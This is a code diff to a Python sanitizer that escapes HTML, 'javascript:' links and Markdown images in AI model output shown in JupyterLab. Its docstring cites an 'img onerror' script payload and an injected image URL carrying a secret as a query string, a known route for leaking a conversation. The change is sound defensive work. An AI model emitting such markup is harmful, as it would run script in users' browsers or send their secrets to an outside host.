@@ -3,8 +3,9 @@
 Model output is untrusted: JupyterLab renders a live cell's Markdown as trusted HTML, so a raw
 ``<img onerror=...>`` in an answer would run in the user's browser. :func:`neutralize_html` escapes
 every ``<`` outside code (where Markdown already shows it literally) and inside math (as ``\\lt``,
-which MathJax renders), and defuses ``javascript:``-style link targets, while Markdown formatting —
-lists, tables, code, math — still renders.
+which MathJax renders), defuses ``javascript:``-style link targets, and shows Markdown images as
+text — the browser would fetch them unasked, and an injected ``![](https://host/?q=<secret>)`` is a
+known way to leak a conversation — while Markdown formatting (lists, tables, code, math) still renders.
 """
 
 from __future__ import annotations
@@ -74,7 +75,8 @@ def _outside_code(text: str) -> str:
 
 
 def _escape(text: str) -> str:
-    return _DANGEROUS_LINK.sub("](#blocked:", text.replace("<", "&lt;"))
+    text = text.replace("<", "&lt;").replace("![", "!\\[")
+    return _DANGEROUS_LINK.sub("](#blocked:", text)
 
 
 def split_blocks(markdown: str) -> tuple[list[str], str]:
